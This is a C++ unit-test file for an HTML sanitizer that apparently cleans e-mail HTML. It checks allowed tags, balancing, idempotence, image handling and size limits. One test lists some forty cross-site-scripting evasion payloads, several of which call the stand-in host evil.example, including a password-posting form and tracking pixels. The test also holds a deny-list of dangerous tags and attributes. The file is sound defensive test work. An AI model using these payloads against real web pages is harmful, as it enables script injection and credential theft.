#include "text/html/html_clean.h"

#include <gtest/gtest.h>

#include "base/ascii.h"

namespace restante::text {
namespace {

std::string clean(std::string_view html) { return clean_html(html, 100'000).html; }

TEST(HtmlClean, WhatMayStay) {
  EXPECT_EQ(clean("<p align=left>a <b>b</b><br>c &amp; d</p>"),
            "<p align=\"left\">a <b>b</b><br>c &amp; d</p>");
  EXPECT_EQ(
      clean("<a href=\"https://x.example/?a=1&b=2\">x</a>"),
      "<a href=\"https://x.example/?a=1&amp;b=2\" rel=\"noopener noreferrer nofollow\">x</a>");
  EXPECT_EQ(clean("<img src=\"data:image/png;base64,AAAA\" alt=x>"),
            "<img src=\"data:image/png;base64,AAAA\" alt=\"x\">");
}

// After the usual lists of ways to get a script past a filter: nothing of them may act.
TEST(HtmlClean, NothingActs) {
  for (const std::string_view attack : {
           "<script>alert(1)</script>",
           "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
           "<img src=x onerror=alert(1)>",
           "<img src=\"javascript:alert(1)\">",
           "<IMG SRC=JaVaScRiPt:alert(1)>",
           "<a href=\"javascript:alert(1)\">x</a>",
           "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
           "<a href=\"java\nscript:alert(1)\">x</a>",
           "<a href=\" javascript:alert(1)\">x</a>",
           "<a href=\"&#106;avascript:alert(1)\">x</a>",
           "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
           "<a href=\"vbscript:x\">x</a>",
           "<svg onload=alert(1)><script>alert(1)</script></svg>",
           "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
           "<body onload=alert(1)>",
           "<iframe src=https://evil.example/></iframe>",
           "<object data=x></object><embed src=x>",
           "<form action=https://evil.example/><input name=password><button>go</button></form>",
           "<style>@import url(https://evil.example/);</style>",
           "<link rel=stylesheet href=https://evil.example/x.css>",
           "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
           "<base href=https://evil.example/>",
           "<div style=\"background:url(https://evil.example/)\">x</div>",
           "<table background=https://evil.example/x.png>",
           "<img src=https://evil.example/pixel.gif width=1>",
           "<img srcset=\"https://evil.example/x 2x\">",
           "<video poster=https://evil.example/></video>",
           "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
           "<textarea></textarea><img src=x onerror=alert(1)>",
           "<p title=\"&quot; onmouseover=alert(1) x=&quot;\">x</p>",
           "<p title='\"><script>alert(1)</script>'>x</p>",
           "<<script>alert(1)//<</script>",
           "<scr<script>ipt>alert(1)</scr</script>ipt>",
           "<!--><script>alert(1)</script>-->",
           "<!--[if IE]><script>alert(1)</script><![endif]-->",
           "<img src=\"data:image/svg+xml;base64,AAAA\">",
           "<img/src/onerror=alert(1)>",
           "<a href=https://x.example/\" onclick=alert(1)>x</a>",
           "<plaintext><script>alert(1)</script>",
       }) {
    const std::string html = clean(attack);
    const std::string lower = to_lower(html);
    for (const std::string_view bad :
         {"<script",     "<svg",     "<iframe",     "<object", "<embed",   "<form",
          "<input",      "<style",   "<link",       "<meta",   "<base",    "<math",
          " onerror=\"", " onload",  " onclick=\"", " style=", "href=\"j", "href=\" j",
          "href=\"v",    "href=\"d", "src=\"h",     "src=\"x", "srcset",   "background=",
          "<video",      "<noscript"})
      EXPECT_EQ(lower.find(bad), std::string::npos) << attack << "\n" << html;
  }
}

TEST(HtmlClean, IsBalancedAndReadOneWayOnly) {
  EXPECT_EQ(clean("<div><b>x</div>y"), "<div><b>x</b></div>y");
  EXPECT_EQ(clean("</p>x</b>"), "x");
  EXPECT_EQ(clean("<p title=a\"b>x"), "<p title=\"a&quot;b\">x</p>");
  EXPECT_EQ(clean("a < b"), "a &lt; b");
  // Clean HTML stays as it is.
  const std::string once = clean("<table><tr><td colspan=2>a<p>b</table><ul><li>&lt;script&gt;");
  EXPECT_EQ(clean(once), once);
}

TEST(HtmlClean, RemoteImagesAreCounted) {
  const CleanHtml html =
      clean_html("<img src=https://e.example/1 alt=Logo><img src='cid:x'>", 1000);
  EXPECT_EQ(html.remote_images, 2U);
  EXPECT_EQ(html.html, "[Logo]");
}

TEST(HtmlClean, TheMailsOwnPictures) {
  const OwnImages images = [](std::string_view id) {
    if (id == "logo@x") return std::string("data:image/png;base64,AAAA");
    return id == "evil" ? std::string("data:image/svg+xml;base64,AAAA") : std::string();
  };
  const CleanHtml html = clean_html(
      "<img src='cid:logo%40x' alt=L><IMG SRC=\"CID:logo@x\"><img src=cid:evil alt=e>"
      "<img src=cid:none><img src=https://e.example/x>",
      1000, images);
  EXPECT_EQ(html.html,
            "<img src=\"data:image/png;base64,AAAA\" alt=\"L\">"
            "<img src=\"data:image/png;base64,AAAA\">[e]");
  EXPECT_EQ(html.remote_images, 1U);
}

TEST(HtmlClean, OwnPicturesAreBounded) {
  std::size_t asked = 0;
  const OwnImages images = [&](std::string_view) {
    ++asked;
    return "data:image/png;base64," + std::string(1U << 20, 'A');
  };
  std::string many;
  for (int i = 0; i < 2000; ++i) many += "<img src=cid:x>";
  EXPECT_LT(clean_html(many + "end", 100, images).html.size(), 22U << 20);
  EXPECT_LE(asked, 21U);
  // They take no room from the text.
  EXPECT_TRUE(clean_html("<img src=cid:x>end", 100, images).html.ends_with("end"));
  asked = 0;
  const OwnImages none = [&](std::string_view) {
    ++asked;
    return std::string();
  };
  clean_html(many, 1'000'000, none);
  EXPECT_LE(asked, 500U);
}

TEST(HtmlClean, DepthAndLengthAreBounded) {
  std::string deep;
  for (int i = 0; i < 100'000; ++i) deep += "<div>";
  EXPECT_LT(clean(deep).size(), 20'000U);
  EXPECT_LT(clean_html(std::string(100'000, 'x'), 1000).html.size(), 200'000U);
}

TEST(HtmlClean, TheDocumentForbidsTheRest) {
  const std::string document = html_document("a <b>", "", "<p>x</p>");
  EXPECT_NE(document.find("default-src 'none'"), std::string::npos);
  EXPECT_NE(document.find("<title>a &lt;b&gt;</title>"), std::string::npos);
}

}  // namespace
}  // namespace restante::text
